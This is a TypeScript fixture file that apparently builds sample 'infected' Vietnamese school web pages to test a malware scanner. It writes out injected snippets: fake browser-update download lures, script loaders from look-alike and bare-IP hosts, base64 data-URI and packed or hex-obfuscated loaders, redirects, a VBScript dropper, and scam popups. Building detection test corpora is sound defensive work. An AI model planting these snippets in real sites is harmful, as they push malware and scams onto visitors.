import { atEnd, type CorpusSite, inHead, site } from '../corpus-site.ts';
import { type Platform, schoolPages } from '../school-pages.ts';

const ending = (id: string, about: string, platform: Platform, school: string, snippet: string): CorpusSite =>
  site(
    'infected',
    id,
    about,
    schoolPages(platform, school, [], (html) => atEnd(html, snippet)),
  );

const heading = (
  id: string,
  about: string,
  platform: Platform,
  school: string,
  snippet: string,
): CorpusSite =>
  site(
    'infected',
    id,
    about,
    schoolPages(platform, school, [], (html) => inHead(html, snippet)),
  );

const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Code from hosts that nobody knows, boxes that lie, code that is packed. */
export const sites: readonly CorpusSite[] = [
  ending(
    'false-update-with-unknown-script',
    'a box says that the browser is old and gives a program; the script comes from a cheap ending',
    'wordpress',
    'Trường THCS Mả Thông Mới',
    '<script src="https://cdn-browserfix.top/u.js"></script><div id="upd" style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999"><h2>Trình duyệt Chrome của bạn đã lỗi thời</h2><p>Để tiếp tục xem trang, vui lòng cập nhật trình duyệt.</p><a href="https://cdn-browserfix.top/ChromeSetup.zip">Cập nhật ngay</a></div>',
  ),
  ending(
    'false-update-in-english',
    'a written box asks to update the browser by a file of a stranger',
    'joomla',
    'Trường THPT Hang Vua Mới',
    '<script>document.write(\'<div class="ov"><h1>Update Chrome</h1><p>You are using an older version of Chrome. Update now to keep your Chrome browser running smoothly and securely.</p><a href="https://dl-files-host.example/Chrome.Update.js">Update Chrome</a></div>\')</script>',
  ),
  heading(
    'script-from-bare-address-phones',
    'code from a bare address, loaded on phones only',
    'nukeviet',
    'Trường Tiểu học Đầm Sen Mới',
    '<script>if(/Android|iPhone/.test(navigator.userAgent)){var s=document.createElement("script");s.src="http://203.0.113.45/m.js";document.head.appendChild(s)}</script>',
  ),
  heading(
    'look-alike-of-jquery',
    'a host that looks like that of a known library',
    'wordpress',
    'Trường THPT Lạch Sẽ Mới',
    '<script src="https://code.jquerry.com/jquery-3.7.1.min.js"></script>',
  ),
  heading(
    'look-alike-of-analytics',
    'a host that is the known one with a word more',
    'joomla',
    'Trường THCS Vụng Ngọc Mới',
    '<script async src="https://www.google-analytics-cdn.com/ga.js"></script>',
  ),
  ending(
    'embedded-page-of-stranger',
    'an embed element covers the page with that of a stranger',
    'hand-made',
    'Trường Tiểu học Bàu Trắng Mới',
    '<embed src="https://view-frame.click/p.html" type="text/html" style="position:fixed;top:0;left:0;width:100%;height:100%">',
  ),
  ending(
    'frame-with-data-address',
    'a frame carries a page in its address that leaves for a stranger',
    'wordpress',
    'Trường THCS Gò Mun Mới',
    `<iframe width="1" height="1" src="data:text/html;base64,${base64('<script>top.location.href="https://win-gate.click/?z=3"</script>')}"></iframe>`,
  ),
  ending(
    'script-with-data-address',
    'a script carries its text in its address and loads another',
    'nukeviet',
    'Trường THPT Đồng Chiêm Mới',
    `<script src="data:text/javascript;base64,${base64('var s=document.createElement("script");s.src="https://cloud-metrics.icu/l.js";document.head.appendChild(s);')}"></script>`,
  ),
  ending(
    'object-with-data-address',
    'an object carries a page in its address with links of a trade',
    'joomla',
    'Trường Mầm non Sơn Ca Mới',
    `<object type="text/html" width="10" height="10" data="data:text/html;base64,${base64('<a href="https://kubet-moi.example">nhà cái kubet</a>')}"></object>`,
  ),
  heading(
    'packed-by-edwards',
    'a packed script loads another from a cheap ending',
    'wordpress',
    'Trường THPT Mũi Né Xa',
    String.raw`<script>eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0 1=2.3("4");1.5="6://7.8/9.10";2.11.12(1)',13,13,'var|s|document|createElement|script|src|https|cdn-fast-stat|top|j|js|head|appendChild'.split('|'),0,{}))</script>`,
  ),
  heading(
    'pieces-over-statements',
    'an address is put together over several statements out of escaped pieces',
    'dotnetnuke',
    'Trường THCS Bến Thóc Mới',
    String.raw`<script>var q='\x68\x74\x74';q+='\x70\x73\x3a\x2f\x2f';q+='\x73\x74\x61\x74\x2d\x7a\x6f\x6e\x65';q+='\x2e\x69\x63\x75\x2f\x61\x2e\x6a\x73';var n=document.createElement('script');n.src=q;document.getElementsByTagName('head')[0].appendChild(n);</script>`,
  ),
  heading(
    'computed-names',
    'the names of the location are put together',
    'nukeviet',
    'Trường THPT Hòn Gai Xa',
    `<script>var w=window,l='loc'+'ation',h='hr'+'ef';if(document['ref'+'errer'].indexOf('goo'+'gle')>-1){w[l][h]='https://'+'vao-nhanh'+'.click/?r=5'}</script>`,
  ),
  ending(
    'program-written-by-vbscript',
    'a VBScript writes a program and runs it',
    'hand-made',
    'Trường Tiểu học Ao Cá Mới',
    '<SCRIPT Language=VBScript><!--\nDropFileName = "svchost.exe"\nWriteData = "4D5A90000300000004000000FFFF0000B800000000000000400000000000"\nSet FSO = CreateObject("Scripting.FileSystemObject")\nDropPath = FSO.GetSpecialFolder(2) & "\\" & DropFileName\nSet WSHshell = CreateObject("WScript.Shell")\nWSHshell.Run DropPath, 0\n//--></SCRIPT>',
  ),
  ending(
    'prize-box',
    'a box over the page gives a telephone to a visitor who was chosen',
    'shared-portal',
    'Trường THCS Rừng Thông Mới',
    '<div style="position:fixed;inset:0;background:#000c;z-index:9999"><div><h2>Chúc mừng! Bạn là khách truy cập thứ 1.000.000</h2><p>Bạn đã được chọn để nhận iPhone 17 miễn phí. Hãy trả lời 3 câu hỏi để nhận quà.</p><a href="https://nhan-qua-vip.click/q?i=1">Nhận quà ngay</a></div></div>',
  ),
  ending(
    'press-allow',
    'a box asks to allow notices to prove that one is no robot',
    'wordpress',
    'Trường THPT Bãi Ngang Mới',
    '<div style="position:fixed;inset:0;background:#fff;z-index:9999"><h2>Nhấn “Cho phép” để xác nhận bạn không phải là robot</h2></div><script src="https://push-verify.icu/ntf.js"></script>',
  ),
];
